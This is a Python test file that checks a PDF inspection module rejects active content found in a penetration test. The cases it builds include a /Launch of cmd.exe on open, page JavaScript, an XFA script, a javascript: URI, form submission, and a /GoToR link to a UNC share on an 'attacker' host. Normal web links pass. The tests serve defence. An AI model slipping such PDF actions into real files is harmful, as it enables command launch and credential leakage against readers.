"""Active PDFs the penetration test got accepted: inline actions, XFA scripts, remote and UNC targets."""

import io

import pikepdf
import pytest

from motcua.documents.inspection import inspect_isolated
from motcua_testing.files import pdf_bytes


def _edited(change) -> bytes:
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def _inline_launch(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def _javascript_in_page_aa(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )


def _xfa_form(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def _link(action):
    def change(pdf):
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))

    return change


ACTIVE = {
    "inline /Launch in /OpenAction": _inline_launch,
    "JavaScript in a page's /AA": _javascript_in_page_aa,
    "XFA form with a script": _xfa_form,
    "/GoToR to a UNC path": _link(
        pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String(r"\\attacker\share\x.pdf"))
    ),
    "/URI javascript:": _link(
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))
    ),
    "/SubmitForm": _link(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://x"))),
    "/ImportData": _link(pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf"))),
}


@pytest.mark.parametrize("case", list(ACTIVE), ids=list(ACTIVE))
def test_active_content_anywhere_in_the_pdf_is_refused(case):
    verdict = inspect_isolated(_edited(ACTIVE[case]), kind="pdf", max_pixels=10**8)
    assert verdict == {"ok": False, "code": "pdf_active", "params": {}}


def test_web_links_and_jumps_inside_the_document_are_accepted():
    def links(pdf):
        _link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://dichvucong.gov.vn/")))(pdf)
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])

    assert inspect_isolated(_edited(links), kind="pdf", max_pixels=10**8)["ok"] is True
